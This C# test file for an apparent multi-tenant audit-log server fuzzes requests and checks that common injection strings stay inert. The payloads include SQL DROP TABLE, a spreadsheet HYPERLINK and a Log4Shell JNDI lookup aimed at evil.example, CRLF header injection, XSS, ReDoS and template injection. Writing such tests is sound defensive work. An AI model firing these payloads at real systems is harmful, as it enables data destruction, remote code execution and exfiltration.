
namespace Cairn.Server.Tests.Serving;

/// <summary>Requests as nobody sends them. The suite <c>api</c> of the benchmarks sends a hundred thousand; here are fewer.</summary>
public sealed class FuzzTests
{
    [Fact]
    public async Task Nothing_that_is_sent_breaks_the_server_or_shows_another_tenants_entries()
    {
        await using var rig = await ServerRig.StartAsync();
        var key = rig.KeyOf([AuditRole.Administrator], "club-7");
        var answer = await RequestFuzz.RunAsync(rig.Address, rig.FirstKey, key, 20_261_128, 3_000, ServerRig.Cancel);
        Assert.Equal([], answer.Faults);
        Assert.True(answer.Good > 100, $"Only {answer.Good} requests were understood."); // It reaches what lies behind the parsing.
        using var alive = await rig.GetAsync("events?tenant=club-7", key);
        Assert.True(alive.IsSuccessStatusCode);
    }

    [Theory]
    [InlineData("'; DROP TABLE entries; --")]
    [InlineData("=HYPERLINK(\"http://evil.example\")")]
    [InlineData("\r\nX-Injected: a")]
    [InlineData("(a+)+$")]
    [InlineData("%00%0d%0a")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("${jndi:ldap://evil.example}")]
    [InlineData("{{7*7}}")]
    [Trait("Requirement", "CHATBOT-3")]
    public async Task Injections_come_through_inert(string text)
    {
        await using var rig = await ServerRig.StartAsync();
        var sent = await rig.RecordAsync(
            "t1", new { action = "record.updated", actor = new { type = "user", id = text, name = text }, reason = text, metadata = new { text } });
        Assert.Equal(1, sent.GetProperty("recorded").GetInt32());
        var id = sent.GetProperty("results")[0].GetProperty("id").GetString();
        var entry = (await rig.GetJsonAsync($"events/{id}?tenant=t1", rig.FirstKey)).GetProperty("event");
        Assert.Equal((text, text), (entry.GetProperty("reason").GetString(), entry.GetProperty("metadata").GetProperty("text").GetString()));
        var quoted = Uri.EscapeDataString($"\"{text.Replace("\"", "\"\"", StringComparison.Ordinal)}\"");
        foreach (var path in (string[])[$"events?tenant=t1&q={quoted}", $"events?tenant=t1&q=actor:{quoted}", $"events?tenant=t1&cursor={quoted}"])
        {
            using var response = await rig.GetAsync(path, rig.FirstKey);
            Assert.InRange((int)response.StatusCode, 200, 499);
            Assert.DoesNotContain(response.Headers, h => h.Key == "X-Injected");
        }

        using var csv = await rig.GetAsync("export?tenant=t1&format=csv", rig.FirstKey);
        var rows = await csv.Content.ReadAsStringAsync(ServerRig.Cancel);
        Assert.DoesNotContain(",=HYPERLINK", rows, StringComparison.Ordinal);
        Assert.DoesNotContain("\n=HYPERLINK", rows, StringComparison.Ordinal);
    }
}
